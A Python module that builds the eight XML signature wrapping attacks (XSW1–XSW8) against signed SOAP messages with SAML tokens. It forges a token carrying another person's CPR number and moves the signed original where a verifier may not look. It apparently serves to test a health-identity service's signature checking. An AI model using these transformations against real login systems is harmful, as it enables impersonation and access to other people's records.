"""The eight published ways to wrap a signed message (Somorovsky et al., "On Breaking SAML", USENIX Security 2012).

Each takes a valid message and gives one in which a reader that looks for a token (1-2: for the body) in another way than the
signature's reference does finds what the attacker wrote. In a response of web single sign-on the first two copy the
response; here the message signature takes its place.
"""

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

from patientoverblik.edges.identity.soap.names import HSUID, WSSE, ds, saml
from patientoverblik.edges.identity.soap.reading import Element

EVIL = "7001011234"


def security(envelope: Element) -> Element:
    return envelope[0].find(f"{{{WSSE}}}Security")


def token(envelope: Element) -> Element:
    return next(envelope.iter(saml("Assertion")))


def evil(original: Element, same_id: bool) -> Element:
    """The token as the attacker wants it: another person's number, and no signature."""
    made = deepcopy(original)
    made.remove(made.find(ds("Signature")))
    for value in made.iter(saml("AttributeValue")):
        if value.getprevious() is None and value.getparent().get("Name", "").endswith("CprNumberIdentifier"):
            value.text = EVIL
    if not same_id:
        made.set("ID", "_evil")
    return made


def xsw1(envelope: Element, same_id: bool) -> Element:
    """The signed body moves into an object of the signature; another body takes its place."""
    body, signature = envelope[1], security(envelope).find(ds("Signature"))
    other = _other_body(body, same_id)
    holder = etree.SubElement(signature, ds("Object"))
    envelope.replace(body, other)
    holder.append(body)
    return envelope


def xsw2(envelope: Element, same_id: bool) -> Element:
    """The signed body moves into a header nobody reads; another body takes its place."""
    body = envelope[1]
    other = _other_body(body, same_id)
    envelope.replace(body, other)
    etree.SubElement(envelope[0], "{urn:nobody}Wrapper").append(body)
    return envelope


def xsw3(envelope: Element, same_id: bool) -> Element:
    """Another token stands before the signed one."""
    original = token(envelope)
    original.addprevious(evil(original, same_id))
    return envelope


def xsw4(envelope: Element, same_id: bool) -> Element:
    """Another token holds the signed one."""
    original = token(envelope)
    other = evil(original, same_id)
    original.getparent().replace(original, other)
    other.append(original)
    return envelope


def xsw5(envelope: Element, same_id: bool) -> Element:
    """The signed token is changed and keeps the signature; a copy of the original stands at the end."""
    original = token(envelope)
    other = _with_signature(original, same_id)
    original.getparent().replace(original, other)
    security(envelope).append(_unsigned(original))
    return envelope


def xsw6(envelope: Element, same_id: bool) -> Element:
    """As the fifth, and the copy stands in the signature."""
    original = token(envelope)
    other = _with_signature(original, same_id)
    original.getparent().replace(original, other)
    other.find(ds("Signature")).append(_unsigned(original))
    return envelope


def xsw7(envelope: Element, same_id: bool) -> Element:
    """Another token stands in an extension before the signed one."""
    original = token(envelope)
    extension = etree.Element("{urn:oasis:names:tc:SAML:2.0:protocol}Extensions")
    original.addprevious(extension)
    extension.append(evil(original, same_id))
    return envelope


def xsw8(envelope: Element, same_id: bool) -> Element:
    """The changed token's signature has an object that holds the original."""
    original = token(envelope)
    other = _with_signature(original, same_id)
    original.getparent().replace(original, other)
    etree.SubElement(other.find(ds("Signature")), ds("Object")).append(_unsigned(original))
    return envelope


WAYS: tuple[Callable[[Element, bool], Element], ...] = (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)


def _other_body(body: Element, same_id: bool) -> Element:
    other = etree.Element(body.tag, dict(body.attrib))
    etree.SubElement(other, "{urn:evil}Query")
    for name in other.attrib if not same_id else ():
        other.set(name, "evil")
    return other


def _with_signature(original: Element, same_id: bool) -> Element:
    other = evil(original, same_id)
    other.insert(1, deepcopy(original.find(ds("Signature"))))
    return other


def _unsigned(original: Element) -> Element:
    made = deepcopy(original)
    made.remove(made.find(ds("Signature")))
    return made


def hsuid_of(envelope: Element) -> Element:
    return envelope[0].find(f"{{{HSUID}}}HsuidHeader")
